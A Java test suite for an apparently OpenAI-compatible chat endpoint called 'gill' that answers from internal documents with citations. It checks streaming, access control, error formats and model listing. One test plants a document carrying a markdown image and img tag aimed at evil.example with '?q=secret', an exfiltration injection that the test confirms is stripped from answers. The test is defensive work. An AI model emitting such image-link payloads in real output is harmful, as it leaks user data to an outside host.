package dev.gill.surface.openai;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.empty;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasSize;
import static org.hamcrest.Matchers.not;
import static org.hamcrest.Matchers.nullValue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.gill.model.Audience;
import dev.gill.model.Origin;
import dev.gill.model.Reader;
import dev.gill.surface.SmallHouse;
import dev.gill.surface.SmallTeam;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import io.restassured.response.ValidatableResponse;
import jakarta.inject.Inject;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

@Tag("slow")
@QuarkusTest
@TestProfile(SmallHouse.Profile.class)
class ChatTest {
  private static final String CHAT = "/v1/chat/completions";
  private static final String TEXT = "choices[0].message.content";
  private static final String QUESTION = "writer before you restore";

  @Inject SmallHouse house;
  @Inject ObjectMapper json;

  @BeforeEach
  void moveIn() {
    SmallTeam.moveInto(house);
  }

  private static ValidatableResponse post(Object body) {
    return given().contentType("application/json").body(body).post(CHAT).then();
  }

  private static Map<String, Object> says(String role, Object content) {
    return Map.of("role", role, "content", content);
  }

  private static ValidatableResponse ask(String question) {
    return post(Map.of("model", "gill", "messages", List.of(says("user", question))));
  }

  @Test
  void whatAModelTookIsCounted() {
    ask(QUESTION + ", by a model")
        .statusCode(200)
        .body("usage.prompt_tokens", equalTo(700))
        .body("usage.completion_tokens", equalTo(40))
        .body("usage.total_tokens", equalTo(740))
        .body(TEXT, containsString("~~Stop it for"));
  }

  @Test
  void anAnswerIsQuotedWithMarkersLinksAndAnnotations() {
    String text =
        ask(QUESTION)
            .statusCode(200)
            .contentType("application/json")
            .body("object", equalTo("chat.completion"))
            .body("model", equalTo("gill"))
            .body("created", equalTo((int) SmallHouse.NOW.getEpochSecond()))
            .body("choices", hasSize(1))
            .body("choices[0].finish_reason", equalTo("stop"))
            .body("choices[0].message.role", equalTo("assistant"))
            .body("choices[0].message.annotations", hasSize(1))
            .body("choices[0].message.annotations[0].type", equalTo("url_citation"))
            .body(
                "choices[0].message.annotations[0].url_citation.url",
                containsString("restore.md#L7"))
            .body(
                "choices[0].message.annotations[0].url_citation.title",
                equalTo("Restoring the database"))
            .body("usage.total_tokens", equalTo(0))
            .extract()
            .path(TEXT);
    assertThat(text)
        .startsWith(SmallTeam.STOP + " [1]")
        .contains("[1] [Restoring the database](https://git.example.org/handbook/")
        .contains("› Before you start · Platform team · 18 Nov 2026")
        .endsWith("As of 20 Nov 2026, 09:00 UTC.");
  }

  @Test
  void anAnnotationStandsAtItsMarker() {
    var response = ask(QUESTION).extract();
    String text = response.path(TEXT);
    int start = response.path("choices[0].message.annotations[0].url_citation.start_index");
    int end = response.path("choices[0].message.annotations[0].url_citation.end_index");
    assertThat(text.substring(start, end)).isEqualTo("[1]");
  }

  @Test
  void aDocumentWithoutALinkOpensInGill() {
    house.put(
        "notes:kettle.md",
        "5",
        new Origin("", "Kettle", "", SmallHouse.NOW),
        new Audience.Everyone(),
        "# Kettle\n\nThe kettle in the attic is descaled on every second Thursday.");
    String url =
        ask("when is the kettle in the attic descaled")
            .body("choices[0].message.annotations", not(empty()))
            .extract()
            .path("choices[0].message.annotations[0].url_citation.url");
    assertThat(url).startsWith("http://localhost:").contains("/documents/notes:kettle.md?");
    given().urlEncodingEnabled(false).get(url).then().statusCode(200).body(containsString("<mark"));
  }

  @Test
  void aStreamComesToTheSameText() throws IOException {
    String whole = ask(QUESTION).extract().path(TEXT);
    String events =
        post(Map.of(
                "model",
                "gill",
                "stream",
                true,
                "stream_options",
                Map.of("include_usage", true),
                "messages",
                List.of(says("user", QUESTION))))
            .statusCode(200)
            .contentType(containsString("text/event-stream"))
            .extract()
            .asString();
    List<JsonNode> chunks = new ArrayList<>();
    List<String> data = events.lines().filter(line -> line.startsWith("data: ")).toList();
    assertThat(data.getLast()).isEqualTo("data: [DONE]");
    for (String each : data.subList(0, data.size() - 1)) {
      chunks.add(json.readTree(each.substring("data: ".length())));
    }
    StringBuilder text = new StringBuilder();
    chunks.forEach(each -> text.append(each.at("/choices/0/delta/content").asText()));
    assertThat(text).hasToString(whole);
    assertThat(chunks.getFirst().at("/choices/0/delta/role").asText()).isEqualTo("assistant");
    assertThat(chunks).anyMatch(each -> each.at("/choices/0/delta/annotations/0").isObject());
    assertThat(chunks.get(chunks.size() - 2).at("/choices/0/finish_reason").asText())
        .isEqualTo("stop");
    assertThat(chunks.getLast().at("/usage/total_tokens").asInt(-1)).isZero();
    assertThat(chunks).allMatch(each -> each.path("id").equals(chunks.getFirst().path("id")));
  }

  @Test
  void theLastMessageOfTheUserIsTheQuestion() {
    post(Map.of(
            "model",
            "gill",
            "temperature",
            0.3,
            "messages",
            List.of(
                says("system", "You are helpful."),
                says("user", "zebra"),
                says("assistant", "I don't know."),
                says("user", List.of(Map.of("type", "text", "text", QUESTION))),
                says("assistant", "Let me see."))))
        .statusCode(200)
        .body(TEXT, containsString("Stop the writer"));
  }

  @Test
  void aLongChatIsNoReasonToRefuseTheQuestion() {
    List<Map<String, Object>> messages = new ArrayList<>();
    for (int i = 0; i < 40; i++) {
      messages.add(says("assistant", "x".repeat(10_000)));
    }
    messages.add(says("user", QUESTION));
    post(Map.of("model", "gill", "messages", messages))
        .statusCode(200)
        .body(TEXT, containsString("Stop the writer"));
  }

  @Test
  void whatIsOnlyNearSaysSo() {
    ask(SmallTeam.NEAR)
        .body(TEXT, containsString("This is near, but may not answer:\n\n> Stop the writer"))
        .body("choices[0].message.annotations", hasSize(1));
  }

  @Test
  void notKnowingSaysSoAndShowsWhatCameNearest() {
    ask("zebra")
        .body(TEXT, containsString("I don’t know"))
        .body(TEXT, containsString("\n- [Restoring the database]("))
        .body("choices[0].message.annotations", empty());
  }

  @Test
  void aQuestionInChineseIsAnsweredInChineseWords() {
    ask("请年假需要提前多久申请？").body(TEXT, containsString("截至 2026年11月20日"));
  }

  @Test
  void aDocumentCanNeitherFetchAPictureNorAddATag() {
    house.put(
        "notes:trap.md",
        "1",
        new Origin("", "The trap] door", "", SmallHouse.NOW),
        new Audience.Everyone(),
        "The trap door in the cellar opens `![x](https://evil.example/?q=secret)` with \\<img src=https://evil.example/y\\> alone.");
    String text = ask("what opens the trap door in the cellar").extract().path(TEXT);
    assertThat(text).contains("trap door").doesNotContain("![x]").doesNotContain(" <img");
  }

  @Test
  void whatOneMayNotReadIsNeverAnswered() {
    ask("secret salary figure").body(TEXT, not(containsString("91,250")));
    house.reader = Reader.member("leads");
    ask("secret salary figure").body(TEXT, containsString("91,250"));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "{ | null",
        "[] | null",
        "{\"model\":\"gill\",\"messages\":[]} x | null",
        "{\"messages\":[{\"role\":\"user\",\"content\":\"a\"}]} | model",
        "{\"model\":7,\"messages\":[{\"role\":\"user\",\"content\":\"a\"}]} | model",
        "{\"model\":\"gill\"} | messages",
        "{\"model\":\"gill\",\"messages\":{}} | messages",
        "{\"model\":\"gill\",\"messages\":[3]} | messages",
        "{\"model\":\"gill\",\"messages\":[{\"content\":\"a\"}]} | messages",
        "{\"model\":\"gill\",\"messages\":[{\"role\":\"system\",\"content\":\"a\"}]} | messages",
        "{\"model\":\"gill\",\"messages\":[{\"role\":\"user\",\"content\":\" \"}]} | messages",
        "{\"model\":\"gill\",\"n\":2,\"messages\":[{\"role\":\"user\",\"content\":\"a\"}]} | n",
        "{\"model\":\"gill\",\"stream\":1,\"messages\":[{\"role\":\"user\",\"content\":\"a\"}]} | stream"
      })
  void whatIsWrongIsNamed(String body, String param) {
    post(body)
        .statusCode(400)
        .contentType("application/json")
        .body("error.type", equalTo("invalid_request_error"))
        .body("error.param", param.equals("null") ? nullValue() : equalTo(param))
        .body("error.message", not(equalTo("")));
  }

  @Test
  void anotherModelIsNotFound() {
    post(Map.of("model", "gpt-4o", "messages", List.of(says("user", "a"))))
        .statusCode(404)
        .body("error.code", equalTo("model_not_found"))
        .body("error.message", equalTo("gpt-4o is no model here; use gill."));
    given().get("/v1/models/gpt-4o").then().statusCode(404).body("error.param", equalTo("model"));
  }

  @Test
  void theModelIsListed() {
    given()
        .get("/v1/models")
        .then()
        .statusCode(200)
        .body("object", equalTo("list"))
        .body("data", hasSize(1))
        .body("data[0].id", equalTo("gill"))
        .body("data[0].object", equalTo("model"));
    given().get("/v1/models/gill").then().statusCode(200).body("id", equalTo("gill"));
  }

  @Test
  void whateverIsRefusedIsRefusedInTheirForm() {
    given()
        .get(CHAT)
        .then()
        .statusCode(405)
        .header("Allow", "POST")
        .body("error.code", equalTo("method_not_allowed"));
    given()
        .post("/v1/embeddings")
        .then()
        .statusCode(404)
        .body("error.code", equalTo("unknown_url"));
    ask("x".repeat(2001)).statusCode(400).body("error.message", containsString("2,001"));
    post("x".repeat(1_100_000)).statusCode(413).body("error.code", equalTo("body_too_large"));
    given()
        .header("Origin", "https://evil.example")
        .post(CHAT)
        .then()
        .statusCode(403)
        .body("error.type", equalTo("invalid_request_error"));
    ask("explode")
        .statusCode(500)
        .body("error.type", equalTo("server_error"))
        .body("error.message", not(containsString("hunter2")));
    ask("interrupt").statusCode(503).header("Retry-After", "5");
  }

  @Test
  void errorsSpeakTheLanguageThatIsAccepted() {
    given()
        .header("Accept-Language", "zh")
        .body("{")
        .post(CHAT)
        .then()
        .body("error.message", containsString("请求体"));
  }
}
